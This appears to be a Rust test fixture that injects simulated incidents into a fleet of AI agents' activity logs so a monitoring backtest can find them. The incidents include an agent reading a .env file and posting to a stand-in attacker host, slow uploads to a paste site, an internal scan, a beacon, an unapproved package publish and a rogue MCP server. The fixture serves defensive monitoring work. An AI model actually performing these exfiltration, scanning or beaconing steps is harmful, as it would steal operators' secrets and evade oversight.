//! What goes wrong in the history, each at its time: what a backtest should find again.

use ledger::Entry;
use ledger::events::column;

use super::{START, TICK};
use crate::fleet::{Agent, Fleet};

const DAY: i64 = 86_400;
const HOUR: i64 = 3_600;

/// One incident: agent, first second, last second, seconds between two events of it, and what happens.
type Incident = (usize, i64, i64, i64, fn(&mut Agent, i64, &mut dyn FnMut(&mut Entry)));

const INCIDENTS: [Incident; 9] = [
    // A loop: the same failing command with the same result, and a model call each time.
    (7, 4 * DAY + 10 * HOUR, 4 * DAY + 11 * HOUR, 50, |agent, second, take| {
        let mut entry = agent.step(second, "command", "Bash", 0x51ac_0001, 0x51ac_0002);
        entry.set_text(column::COMMAND, "npm run build");
        take(&mut entry);
        take(&mut agent.model(second, "claude-sonnet-5", 60_000));
    }),
    // A refused exfiltration: secrets are read, and somebody tries to send them.
    (13, 8 * DAY + 9 * HOUR, 8 * DAY + 9 * HOUR + 300, 50, |agent, second, take| {
        let mut entry = agent.step(second, "file.read", "Read", second as u64, second as u64);
        entry.set_text(column::FILE, "/w/.env");
        take(&mut entry);
        take(&mut agent.request(second, "POST", "collector.attacker.example", "/collect", "deny"));
    }),
    // A slow one over five days that nobody refused.
    (21, 11 * DAY, 16 * DAY, 2_400, |agent, second, take| {
        let mut entry = agent.request(second, "POST", "paste.example", "/api/new", "allow");
        entry.set_integer(column::BYTES_OUT, 3_000);
        take(&mut entry);
    }),
    // A spike of spend.
    (20, 16 * DAY + 13 * HOUR, 16 * DAY + 15 * HOUR, 25, |agent, second, take| {
        take(&mut agent.model(second, "claude-sonnet-5", 2_500_000));
    }),
    // A scan that the firewall refuses.
    (31, 18 * DAY + 14 * HOUR, 18 * DAY + 14 * HOUR + 600, 25, |agent, second, take| {
        for number in 0..8 {
            let domain = format!("host{}.internal.example", second % 1_000 / 25 * 8 + number);
            take(&mut agent.request(second, "GET", &domain, "/", "deny"));
        }
    }),
    // A package is published by hand.
    (3, 10 * DAY + 15 * HOUR, 10 * DAY + 15 * HOUR, 25, |agent, second, take| {
        let mut entry = agent.step(second, "command", "Bash", second as u64, second as u64);
        entry.set_text(column::COMMAND, "npm publish --access public");
        take(&mut entry);
    }),
    // An MCP server that nobody else uses.
    (42, 23 * DAY + 11 * HOUR, 23 * DAY + 12 * HOUR, 300, |agent, second, take| {
        let mut entry = agent.step(second, "tool.call", "lookup", second as u64, second as u64);
        entry.set_text(column::MCP_SERVER, "https://mcp.attacker.example");
        take(&mut entry);
    }),
    // One that everybody uses, so that the other is rare.
    (5, 2 * DAY, 30 * DAY, 6 * HOUR, |agent, second, take| {
        let mut entry = agent.step(second, "tool.call", "search", second as u64, second as u64);
        entry.set_text(column::MCP_SERVER, "https://mcp.acme.example");
        take(&mut entry);
    }),
    // A beacon.
    (44, 25 * DAY, 25 * DAY + 12 * HOUR, 300, |agent, second, take| {
        take(&mut agent.request(second, "GET", "cdn-status.example", "/p", "allow"));
    }),
];

/// What goes wrong in a tick, so many seconds after the start.
pub fn tick(fleet: &mut Fleet, since: i64, take: &mut dyn FnMut(&mut Entry)) {
    for (agent, first, last, every, happens) in INCIDENTS {
        let due = (first..=last).contains(&since) && (since - first) % every < TICK;
        if let Some(agent) = fleet.agents.get_mut(agent).filter(|_| due) {
            happens(agent, START + since, take);
        }
    }
}
